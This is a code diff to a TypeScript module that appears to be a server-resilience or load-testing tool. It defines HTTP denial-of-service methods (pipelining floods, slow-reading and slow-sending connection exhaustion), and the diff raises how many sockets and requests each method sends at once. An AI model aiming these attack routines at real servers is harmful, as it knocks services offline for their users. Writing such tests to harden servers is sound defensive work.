@@ -27,15 +27,15 @@ interface Means {
   often(perSecond: number, work: () => void): void
 }
 
-/** More than a node answers at once, from one address. */
-const MANY = 1_100
+/** More connections and requests than the target has places for. */
+const MANY = 500
 const BODY = 'Content-Length: 100\r\n'
 
 /** Brings so many connections into use, and others in the place of those that the server ends. */
 async function keepUp({ often, count }: Means, most: number, begin: () => void): Promise<void> {
   for (let n = 0; n < most; n += 1) {
     begin()
-    if (n % 50 === 49) await sleep(10)
+    if (n % 25 === 24) await sleep(10)
   }
   often(20, () => {
     for (let n = 0; n < 5 && count() < most; n += 1) begin()
@@ -43,12 +43,17 @@ async function keepUp({ often, count }: Means, most: number, begin: () => void):
 }
 
 const ATTACKS = {
-  pipelining(means: Means) {
+  async pipelining(means: Means) {
     const thousand = means.request('GET').repeat(1_000)
-    return keepUp(means, 2, () => means.open().write(thousand))
+    const sockets = Array.from({ length: 100 }, () => means.open())
+    await sleep(50)
+    for (const socket of sockets) socket.write(thousand)
+    return keepUp(means, 100, () => means.open().write(thousand))
   },
   'slow reading'(means: Means) {
-    return keepUp(means, 300, () => means.open().write(means.request('GET')))
+    // More than the system keeps of a connection that is not read.
+    const requests = means.request('GET').repeat(4)
+    return keepUp(means, 100, () => means.open().write(requests))
   },
   'slow sending'(means: Means) {
     const sockets: Socket[] = []
@@ -76,8 +81,6 @@ const ATTACKS = {
     })
   },
 } satisfies Record<string, (means: Means) => void | Promise<void>>
-
-export const ATTACK_NAMES = Object.keys(ATTACKS) as Attack[]
 
 /** Begins an attack; done when it is at its height. @param ends gets what ends it */
 async function begin({ attack, way, port, from }: Order, ends: (() => void)[]): Promise<void> {
